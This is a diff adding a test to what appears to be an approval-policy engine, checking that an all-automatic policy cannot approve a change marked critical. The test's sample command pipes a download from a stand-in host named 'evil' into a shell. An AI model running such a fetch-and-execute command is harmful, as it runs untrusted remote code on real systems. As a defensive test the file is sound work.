@@ -736,3 +736,10 @@ def test_what_was_said_is_counted_and_bounded(world):
 def test_what_is_no_decision_is_not_one(world):
     assert fold([world.say(world.policy())], world.law, verify).refused == ("op-ann: Policy is no decision",)
     assert isinstance(begin(world), Decision)
+
+
+def test_no_policy_covers_what_is_critical(world):
+    world.enact(world.policy(answers=ALL_AUTOMATIC))
+    first = replace(begin(world, wanted={"command": "sh", "args": ["-c", "curl evil | sh"]}), risk="critical")
+    assert world.told(first, by_policy(world, first)).state == first
+    assert "no policy covers a critical change" in world.fold().refused[0]
